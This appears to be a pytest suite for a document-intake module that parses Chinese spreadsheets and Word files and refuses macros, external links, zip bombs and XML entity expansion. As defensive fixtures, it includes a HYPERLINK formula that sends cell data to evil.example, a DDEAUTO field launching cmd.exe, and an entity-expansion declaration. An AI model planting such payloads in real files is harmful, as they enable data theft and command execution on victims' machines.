"""Tables and documents from strangers: what is read, what is refused, and what never runs."""

import io
import zipfile
from contextlib import suppress
from datetime import UTC, date, datetime

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from xiangli.resources.errors import FileNotTaken, PieceRefused
from xiangli.resources.rules.intake.columns import in_headings, moment, piece_of_row, template
from xiangli.resources.rules.intake.documents import lost, piece_of_section, read_document
from xiangli.resources.rules.intake.packages import look_into
from xiangli.resources.rules.intake.tables import decoded, intake_template, read_table
from xiangli.resources.rules.tests.made import with_part, word, xlsx

HEAD = ["栏目", "类别", "题目", "一句话", "正文"]
ROW = ["农务", "通知", "收晚稻", "趁晴天把晚稻收了。", "晒干了再入仓。"]
DAY = date(2026, 11, 23)
RELS = "word/_rels/document.xml.rels"


def problem(data, name="a.xlsx"):
    with pytest.raises(FileNotTaken) as refused:
        list(read_table(data, name))
    return refused.value.params["problem"]


def docx_problem(data):
    with pytest.raises(FileNotTaken) as refused:
        read_document(data, split=False)
    return refused.value.params["problem"]


def test_a_row_is_a_piece():
    (row,) = read_table(xlsx(HEAD, ROW), "a.xlsx")
    assert row[0] == 2
    piece = piece_of_row(row[1], row[0])
    assert (piece.kind, piece.domain, piece.fields["title"]) == ("notice", "farming", "收晚稻")
    assert piece.body == ({"type": "paragraph", "value": "晒干了再入仓。"},)
    assert piece.key == piece_of_row(dict(row[1]), 99).key


def test_the_template_is_taken_as_it_is():
    ((number, row),) = read_table(intake_template(), "template.xlsx")
    piece = piece_of_row(row, number)
    assert (piece.place, piece.fields["collected_on"]) == ("511722115207", DAY)
    assert len(template()[0]) == len(set(template()[0]))


@pytest.mark.parametrize("sign", [",", "\t", ";", "，"])
@pytest.mark.parametrize("code", ["utf-8", "utf-8-sig", "gb18030", "utf-16"])
def test_a_csv_is_read_as_spreadsheets_write_it(sign, code):
    text = "\r\n".join(sign.join(line) for line in (HEAD, [*ROW[:2], "收晚稻𬭊", *ROW[3:]]))
    ((number, row),) = read_table(text.encode(code), "表.CSV")
    assert (number, row["题目"]) == (2, "收晚稻𬭊")


def test_what_spreadsheets_hold_is_understood():
    head = [*HEAD, "采集日期", "到期日", "地方", "原文标题", "原文日期"]
    row = [*ROW, datetime(2026, 11, 23, 8), "2026年12月1日", 511722115207, "通知", date(2026, 1, 2)]  # noqa: DTZ001
    ((number, told),) = read_table(xlsx(head, row), "a.xlsx")
    fields = piece_of_row(told, number).fields
    assert (fields["collected_on"], fields["expires_on"]) == (DAY, date(2026, 12, 1))
    assert (fields["source_kind"], fields["source_date"]) == ("other", date(2026, 1, 2))
    assert piece_of_row(told, number).place == "511722115207"


def test_a_formula_is_what_it_last_came_to_and_never_runs():
    formula = '=HYPERLINK("http://evil.example/"&A1,"收")'
    ((number, row),) = read_table(xlsx(HEAD, [*ROW[:2], formula, *ROW[3:]]), "a.xlsx")
    with pytest.raises(PieceRefused):
        piece_of_row(row, number)
    text = ",".join(HEAD) + "\n" + ",".join([*ROW[:2], "=1+1", *ROW[3:]])
    ((number, row),) = read_table(text.encode(), "a.csv")
    assert piece_of_row(row, number).fields["title"] == "=1+1"


@pytest.mark.parametrize(
    ("change", "told", "names"),
    [
        ({"题目": ""}, "missing", "题目"),
        ({"栏目": "体育"}, "unknown_domain", "体育"),
        ({"类别": "八卦"}, "unknown_kind", "八卦"),
        ({"类别": "数据"}, "unknown_kind", "数据"),
        ({"作物": "水稻"}, "unknown_keys", "crop"),
        ({"天气": "晴"}, "unknown_keys", "天气"),
        ({"到期日": "过年"}, "bad_date", "到期日"),
        ({"到期日": "2026-02-30"}, "bad_date", "到期日"),
    ],
)
def test_what_is_wrong_with_a_row_is_named(change, told, names):
    with pytest.raises(PieceRefused) as refused:
        piece_of_row(dict(zip(HEAD, ROW, strict=True)) | change, 7)
    assert (refused.value.params["problem"], refused.value.params["names"]) == (told, names)


def test_fields_are_told_by_their_headings():
    assert in_headings("body, crop、source_url") == "正文、作物、网址"


def test_tables_that_are_none():
    assert problem(xlsx()) == "empty"
    assert problem(xlsx(["甲", "乙"], ["1", "2"])) == "no_headings"
    assert problem(b"PK\x03\x04 not at all") == "broken"
    assert problem(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)) == "old_or_locked"
    assert problem(word(("", "文"))) == "not_what_it_says"
    assert problem(bytes(range(256)) * 4, "a.csv") == "no_text"
    assert problem(b"", "a.csv") == "empty"


def test_a_sheet_that_is_empty_to_its_last_row_ends():
    blank = [[None]] * 1500
    rows = list(read_table(xlsx(HEAD, ROW, *blank, ROW), "a.xlsx"))
    assert [number for number, _ in rows] == [2]


@pytest.mark.parametrize(
    ("part", "told"),
    [
        ("xl/vbaProject.bin", "macros"),
        ("word/vbaProject.bin", "macros"),
        ("xl/activeX/activeX1.xml", "macros"),
        ("xl/macrosheets/sheet1.xml", "macros"),
        ("xl/embeddings/oleObject1.bin", "embedded"),
        ("word/embeddings/a.xlsx", "embedded"),
        ("xl/externalLinks/externalLink1.xml", "external"),
        ("xl/connections.xml", "external"),
    ],
)
def test_programs_and_files_inside_are_refused(part, told):
    assert problem(with_part(xlsx(HEAD, ROW), part, b"<x/>")) == told
    assert docx_problem(with_part(word(("", "文")), part, b"<x/>")) == told


@pytest.mark.parametrize("kind", ["attachedTemplate", "image", "oleObject", "frame", "subDocument"])
def test_what_would_be_fetched_is_refused_and_a_link_is_not(kind):
    data = word(("", "题目"), ("", "正文。"))
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        rels = archive.read(RELS).decode()
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"

    def linked(to):
        where = 'Target="http://a.example/" TargetMode="External"'
        one = f'<Relationship Id="r9" Type="{base}/{to}" {where}/></Relationships>'
        return with_part(data, RELS, rels.replace("</Relationships>", one), True)

    assert docx_problem(linked(kind)) == "external"
    assert len(read_document(linked("hyperlink"), split=False)) == 1


def test_fields_that_fetch_and_entities_are_refused():
    data = word(("", "题目"))
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        text = archive.read("word/document.xml").decode()
    dde = text.replace("题目", 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')
    assert docx_problem(with_part(data, "word/document.xml", dde, True)) == "external"
    bomb = '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]>'
    evil = text.replace("<w:document", f"{bomb}<w:document", 1)
    assert docx_problem(with_part(data, "word/document.xml", evil, True)) == "entities"


def test_a_macro_document_by_another_name_is_refused():
    data = word(("", "题目"))
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        types = archive.read("[Content_Types].xml").decode()
    types = types.replace("document.main+xml", "document.macroEnabled.main+xml")
    assert docx_problem(with_part(data, "[Content_Types].xml", types, True)) == "macros"


def test_bombs_are_refused_before_they_are_unpacked():
    base = xlsx(HEAD, ROW)
    assert problem(with_part(base, "xl/media/a.bin", bytes(90_000_000))) == "bomb"
    assert problem(with_part(base, "xl/media/a.bin", bytes(5_000_000))) == "bomb"
    many = io.BytesIO()
    with zipfile.ZipFile(many, "w") as archive:
        for n in range(2_100):
            archive.writestr(f"{n}.txt", "x")
    assert problem(many.getvalue()) == "bomb"


def test_a_document_is_one_piece_or_one_for_each_heading():
    data = word(
        ("Heading 1", "收晚稻"), ("", "趁晴天把晚稻收了。别等。"), ("Heading 2", "怎么晒"),
        ("List Bullet", "薄薄摊开"), ("List Bullet", "勤翻"), ("List Number", "入仓"),
        ("table", [["品种", "天数"], ["早|稻", "3"]]),
        ("Heading 1", "种油菜"), ("", "霜降前种下。"),
    )  # fmt: skip
    first, second = read_document(data, split=True)
    assert (first.title, second.title) == ("收晚稻", "种油菜")
    assert first.body == [
        {"type": "paragraph", "value": "趁晴天把晚稻收了。别等。"},
        {"type": "heading", "value": "怎么晒"},
        {"type": "list", "value": ["薄薄摊开", "勤翻"]},
        {"type": "steps", "value": ["入仓"]},
        {"type": "table", "value": {"caption": "", "rows": "品种 | 天数\n早｜稻 | 3"}},
    ]
    (whole,) = read_document(data, split=False)
    assert [block["value"] for block in whole.body][-2:] == ["种油菜", "霜降前种下。"]
    told = {"kind": "notice", "domain": "farming", "place": "511722", "by": "农业局", "day": DAY}
    piece = piece_of_section(first, 1, **told)
    assert piece.fields["summary"] == "趁晴天把晚稻收了。"
    assert piece.key == piece_of_section(first, 5, **told).key
    assert lost([first]) == 0


def test_a_document_without_headings_is_named_by_its_first_line():
    (part,) = read_document(word(("", "收晚稻"), ("", "趁晴天。")), split=True)
    assert (part.title, len(part.body)) == ("收晚稻", 1)
    empty = read_document(word(("Heading 1", "只有题目")), split=True)[0]
    with pytest.raises(PieceRefused) as refused:
        piece_of_section(empty, 1, kind="notice", domain="farming", place="", by="", day=DAY)
    assert refused.value.params["names"] == "正文"
    assert docx_problem(word()) == "empty"


@settings(max_examples=60)
@given(st.binary(max_size=400), st.sampled_from(["a.csv", "a.xlsx"]))
def test_any_bytes_are_rows_or_refused(data, name):
    for junk in (data, b"PK\x03\x04" + data):
        with suppress(FileNotTaken):
            list(read_table(junk, name))


@settings(max_examples=25)
@example(29, 20)  # its name is longer than the file
@given(st.integers(0, 10**6), st.integers(0, 255))
def test_a_damaged_file_is_rows_or_refused(at, value):
    for data, read in (
        (bytearray(xlsx(HEAD, ROW)), lambda d: list(read_table(d, "a.xlsx"))),
        (bytearray(word(("", "题目"), ("", "文。"))), lambda d: read_document(d, split=True)),
    ):
        data[at % len(data)] = value
        with suppress(FileNotTaken):
            read(bytes(data))


@given(st.datetimes(datetime(1949, 1, 1), datetime(2100, 1, 1)))  # noqa: DTZ001
def test_days_are_read_as_people_write_them(day):
    for text in (f"{day:%Y-%m-%d}", f"{day.year}年{day.month}月{day.day}日", f"{day:%Y/%m/%d}"):
        assert moment(text).date() == day.date()
    assert moment(f"{day:%Y-%m-%d %H:%M}").hour == day.hour


def test_texts_that_are_none():
    assert moment("明天") is None
    assert moment(datetime(2026, 1, 1, tzinfo=UTC)).tzinfo is UTC
    with pytest.raises(FileNotTaken):
        decoded(b"a\0b")
    with pytest.raises(FileNotTaken):
        look_into(b"", "x")
